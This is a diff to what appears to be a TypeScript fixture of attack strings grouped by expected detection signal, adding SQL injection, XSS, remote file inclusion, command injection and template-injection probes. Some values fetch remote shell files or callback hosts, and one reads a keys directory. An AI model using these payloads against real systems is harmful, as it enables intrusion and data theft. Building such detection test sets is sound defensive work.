@@ -5,6 +5,17 @@ import { shown } from "./_seen.ts";
 /** Attacks as the value of a parameter, by the expected signal. */
 const VALUES: Partial<Record<Signal, readonly string[]>> = {
   sqli: [
+    "7 and 0",
+    "-3 or 0",
+    "12') and false-- x",
+    "4||1",
+    "2 && null",
+    "9;if(81=81) select 81 else drop function f--",
+    "3';waitfor#ab\ndelay#cd\n'0:0:3'--",
+    "8--\nand--\n51=52",
+    "-1 OR 2+81-81-1=0+0+0+1 --",
+    "-1' or 3+5-5-1=0+0+0+1 or 'p'='",
+    "8'\"",
     "1' ORDER BY 3--",
     "' AND 1=CONVERT(int,@@version)--",
     "admin' OR 'a'='a",
@@ -33,6 +44,7 @@ const VALUES: Partial<Record<Signal, readonly string[]>> = {
     "1; select session_user",
   ],
   xss: [
+    "7'abc<'\">def",
     "<svg onload=alert(1)>",
     '"><img src=x onerror=alert(1)>',
     "javascript:alert(1)",
@@ -73,6 +85,8 @@ const VALUES: Partial<Record<Signal, readonly string[]>> = {
     "C:\\Windows\\System32\\drivers\\etc\\hosts",
   ],
   rfi: [
+    "http://x7.oast.fun/a",
+    "//k.interact.sh",
     "http://evil.example/shell.txt?",
     "http://203.0.113.4/shell.php",
     "php://input",
@@ -85,6 +99,15 @@ const VALUES: Partial<Record<Signal, readonly string[]>> = {
     "phar://x.phar",
   ],
   rce: [
+    "a\\nid",
+    "%5cncat%20/srv/keys",
+    "192.0.2.1\\r\\nuname -r",
+    "%5cn/usr/bin/env%5cn",
+    "x%5Cnsleep 7%5Cn",
+    ";sleep 9;",
+    "a|sleep 9&",
+    "h&ping -n 2 192.0.2.1",
+    "x$()\\ y",
     ";id",
     "|id",
     "`id`",
@@ -107,6 +130,12 @@ const VALUES: Partial<Record<Signal, readonly string[]>> = {
     "~+",
   ],
   code: [
+    "index/think\\View/display",
+    "#{9*9}",
+    "{81*81}",
+    "@(81*81)",
+    "';print(md5(81));$b='",
+    "'+response.write(81*81)+'",
     "' || this.role.match(/a/)//",
     "7';return true;//",
     "<?php phpinfo(); ?>",
